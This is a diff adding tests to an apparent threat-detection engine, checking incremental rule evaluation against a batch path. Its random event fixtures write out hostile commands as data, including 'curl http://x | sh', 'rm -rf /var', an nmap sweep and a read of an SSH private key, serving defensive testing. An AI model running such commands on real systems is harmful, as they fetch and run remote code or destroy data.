@@ -8,6 +8,7 @@ Covers:
   - Incident persistence and retrieval
   - Risk snapshot persistence and retrieval
   - evaluate_all_devices orchestration
+  - Incremental rule evaluation against the batch oracle
   - Error handling and edge cases
 """
 
@@ -828,6 +829,205 @@ class TestEvaluateDevice:
         assert engine.device_state["dev-A"]["incident_count"] == 1
 
 
+# ═══════════════════════════════════════════════════════════════════
+# Incremental evaluation (batch path as oracle)
+# ═══════════════════════════════════════════════════════════════════
+
+
+def _random_event(rng, i: int, now: datetime) -> TelemetryEventView:
+    """One event from a mix that exercises most standard and advanced rules."""
+    ts = now - timedelta(seconds=rng.randint(0, 1500))
+    ip = f"10.0.0.{rng.randint(1, 3)}"
+    kind = rng.randrange(9)
+    eid = f"r-{i}"
+    if kind == 0:
+        outcome = "SUCCESS" if rng.random() < 0.3 else "FAILURE"
+        return _make_event(
+            event_id=eid,
+            event_type="SECURITY",
+            timestamp=ts,
+            security_event={
+                "event_action": rng.choice(["SSH", "SUDO", "LOGIN"]),
+                "event_outcome": outcome,
+                "source_ip": ip,
+                "user_name": "admin",
+            },
+            attributes={"sudo_command": rng.choice(["ls", "visudo", "rm -rf /var"])},
+        )
+    if kind == 1:
+        return _make_event(
+            event_id=eid,
+            event_type="FLOW",
+            timestamp=ts,
+            flow_event={
+                "src_ip": ip,
+                "dst_ip": f"203.0.113.{rng.randint(1, 4)}",
+                "dst_port": rng.choice([22, 53, 443]),
+                "direction": "OUTBOUND",
+                "bytes_out": rng.choice([100, 60_000_000]),
+            },
+        )
+    if kind == 2:
+        return _make_event(
+            event_id=eid,
+            event_type="PROCESS",
+            timestamp=ts,
+            process_event={
+                "pid": i,
+                "parent_executable_name": rng.choice(["bash", "launchd"]),
+                "executable_path": rng.choice(["/tmp/x", "/usr/bin/ls"]),
+                "cmdline": rng.choice(
+                    ["whoami", "curl http://x | sh", "nmap 10.0.0.0/24", "ls"]
+                ),
+            },
+        )
+    if kind == 3:
+        return _make_event(
+            event_id=eid,
+            event_type="AUDIT",
+            timestamp=ts,
+            audit_event={
+                "action_performed": rng.choice(["CREATED", "READ"]),
+                "object_type": rng.choice(["LAUNCH_AGENT", "SSH_KEYS"]),
+            },
+            attributes={"file_path": "/Users/a/.ssh/id_rsa"},
+        )
+    if kind in (4, 5):
+        return _make_event(
+            event_id=eid,
+            event_type="SECURITY",
+            timestamp=ts,
+            security_event={
+                "event_category": rng.choice(
+                    [
+                        "http_scan_storm",
+                        "sqli_payload_detected",
+                        "admin_path_enumeration",
+                        "keychain_access",
+                        "browser_cred_theft",
+                        "sensitive_file_exfil",
+                        "clickfix_detected",
+                        "download_to_execute",
+                        "launch_agent_created",
+                        "service_created",
+                    ]
+                ),
+                "source_ip": ip,
+            },
+            attributes={"attacker_ip": ip},
+        )
+    if kind == 6:
+        return _make_event(
+            event_id=eid,
+            event_type="SECURITY",
+            timestamp=ts,
+            security_event={
+                "event_action": rng.choice(["DNS_THREAT", "KERNEL_THREAT"]),
+                "event_outcome": rng.choice(
+                    ["DGA", "C2_BEACON", "PRIVILEGE_ESCALATION", "PROCESS_INJECTION"]
+                ),
+                "details": '{"domain": "x%d.example"}' % i,
+            },
+        )
+    return _make_event(event_id=eid, timestamp=ts)
+
+
+def _fingerprint(incidents) -> list:
+    """Incident content minus fields derived from the wall clock or uuid4."""
+    return [
+        (
+            i.rule_name,
+            i.severity,
+            i.summary,
+            list(i.event_ids),
+            i.contributing_agents,
+            i.weighted_confidence,
+        )
+        for i in incidents
+    ]
+
+
+class TestIncrementalEvaluation:
+    """Incremental rule evaluation must match the full-window batch path."""
+
+    @pytest.mark.parametrize("buffer_max", [1000, 40])
+    def test_matches_batch_oracle(self, tmp_path, buffer_max):
+        import random
+
+        from amoskys.intel.fusion_engine import FusionEngine
+
+        tracker = MagicMock()
+        tracker.get_fusion_weights.return_value = {"SECURITY": 0.5, "FLOW": 0.9}
+        engines = []
+        for mode in (True, False):
+            eng = FusionEngine(
+                db_path=str(tmp_path / f"fusion_{mode}.db"),
+                reliability_tracker=tracker,
+                incremental=mode,
+            )
+            eng._event_buffer_max = buffer_max
+            engines.append(eng)
+        incremental, batch = engines
+
+        rng = random.Random(11)
+        now = datetime.now()
+        fired = set()
+        for step in range(400):
+            event = _random_event(rng, step, now)
+            incremental.add_event(event)
+            batch.add_event(event)
+            if step % 7 == 0:
+                inc_incidents, _ = incremental.evaluate_device("macbook-test")
+                ref_incidents, _ = batch.evaluate_device("macbook-test")
+                assert _fingerprint(inc_incidents) == _fingerprint(ref_incidents)
+                fired.update(i.rule_name for i in ref_incidents)
+
+        assert len(fired) >= 8
+        assert incremental.metrics["rule_evaluations_skipped"] > 0
+
+    def test_irrelevant_events_skip_all_rules(self, engine):
+        """Events no rule filter accepts leave every rule clean."""
+        from amoskys.intel.advanced_rules import ADVANCED_RULES
+        from amoskys.intel.rules import ALL_RULES
+
+        engine.add_event(_make_event(event_id="m1"))
+        engine.evaluate_device("macbook-test")
+        assert engine.metrics["rule_evaluations_skipped"] == 0
+
+        engine.add_event(_make_event(event_id="m2"))
+        engine.evaluate_device("macbook-test")
+        assert engine.metrics["rule_evaluations_skipped"] == len(ALL_RULES) + len(
+            ADVANCED_RULES
+        )
+
+    def test_relevant_event_reruns_rule(self, engine):
+        """A new SSH event re-runs the SSH rules and they fire on the burst."""
+        now = datetime.now()
+        for i in range(3):
+            engine.add_event(
+                _make_ssh_failure(f"f{i}", ts=now - timedelta(seconds=30 - i))
+            )
+        incidents, _ = engine.evaluate_device("macbook-test")
+        assert "ssh_brute_force" not in {i.rule_name for i in incidents}
+
+        engine.add_event(_make_ssh_success("s1", ts=now))
+        incidents, _ = engine.evaluate_device("macbook-test")
+        assert "ssh_brute_force" in {i.rule_name for i in incidents}
+
+    def test_replaced_window_is_rerouted(self, engine):
+        """Assigning a new events container re-routes it on next evaluation."""
+        now = datetime.now()
+        engine.add_event(_make_event(event_id="m1"))
+        engine.evaluate_device("macbook-test")
+
+        engine.device_state["macbook-test"]["events"] = [
+            _make_ssh_failure(f"f{i}", ts=now - timedelta(seconds=10 - i))
+            for i in range(3)
+        ] + [_make_ssh_success("s1", ts=now)]
+        incidents, _ = engine.evaluate_device("macbook-test")
+        assert "ssh_brute_force" in {i.rule_name for i in incidents}
+
+
 # ═══════════════════════════════════════════════════════════════════
 # Ingest Telemetry From DB
 # ═══════════════════════════════════════════════════════════════════